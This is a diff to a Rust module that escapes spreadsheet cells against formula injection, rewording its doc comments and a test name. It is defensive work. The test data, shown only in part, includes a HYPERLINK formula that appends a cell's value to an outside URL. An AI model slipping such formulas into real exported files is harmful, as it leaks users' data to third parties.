@@ -1,20 +1,20 @@
-//! Cells of tables that people open in a spreadsheet.
+//! Protects cells of tables that people open in a spreadsheet.
 
-/// What a spreadsheet takes for the beginning of a formula.
+/// First characters that a spreadsheet reads as the beginning of a formula.
 const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
 
 fn begins_formula(cell: &str) -> bool {
     cell.starts_with(FORMULA_STARTS)
 }
 
-/// `cell` such that no spreadsheet takes it for a formula: one that begins with `=`, `+`, `-`, `@`, a
-/// tab or a carriage return gets a `'` in front. So does one that only lacks those `'`, so that [`plain`] can
-/// take exactly one away.
+/// Returns `cell` in a form that no spreadsheet reads as a formula: a cell that begins with `=`, `+`, `-`, `@`, a
+/// tab or a carriage return gets a leading `'`. So does a cell that begins with `'` before one of these, so that
+/// [`plain`] can remove exactly one.
 pub fn inert(cell: &str) -> String {
     if begins_formula(cell.trim_start_matches('\'')) { format!("'{cell}") } else { cell.to_owned() }
 }
 
-/// What [`inert`] was given.
+/// Returns the original text of a cell from [`inert`].
 pub fn plain(cell: &str) -> &str {
     match cell.strip_prefix('\'') {
         Some(rest) if begins_formula(rest.trim_start_matches('\'')) => rest,
@@ -27,7 +27,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn no_cell_is_a_formula_and_all_come_back() {
+    fn no_cell_is_a_formula_and_all_are_restored() {
         for (cell, expected) in [
             ("=HYPERLINK(\"http://x?\"&A1)", "'=HYPERLINK(\"http://x?\"&A1)"),
             ("+1", "'+1"),
